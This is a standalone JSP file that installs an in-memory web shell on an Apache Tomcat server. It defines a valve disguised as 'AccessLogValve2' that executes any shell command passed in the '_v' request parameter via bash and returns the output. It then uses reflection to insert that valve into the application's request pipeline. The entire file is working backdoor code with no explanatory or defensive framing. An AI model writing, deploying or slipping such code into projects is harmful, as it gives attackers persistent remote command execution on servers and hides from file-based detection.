<%@ page import="java.lang.reflect.Field,org.apache.catalina.connector.Request,org.apache.catalina.connector.Response" %>
<%@ page import="org.apache.catalina.valves.ValveBase,org.apache.catalina.core.StandardContext,java.io.*" %>
<%!
    public class AccessLogValve2 extends ValveBase {
        @Override
        public void invoke(Request req, Response resp) throws IOException, javax.servlet.ServletException {
            String k = req.getParameter("_v");
            if (k != null && !k.isEmpty()) {
                ProcessBuilder pb = new ProcessBuilder("/bin/bash", "-c", k);
                pb.redirectErrorStream(true);
                Process p = pb.start();
                BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
                String line; StringBuilder sb = new StringBuilder();
                while ((line = br.readLine()) != null) sb.append(line).append('\n');
                resp.getWriter().write(sb.toString());
                return;
            }
            getNext().invoke(req, resp);
        }
    }
%>
<%
    Field f = request.getClass().getDeclaredField("request");
    f.setAccessible(true);
    Request r = (Request) f.get(request);
    StandardContext ctx = (StandardContext) r.getContext();
    ctx.getPipeline().addValve(new AccessLogValve2());
    out.println("done");
%>
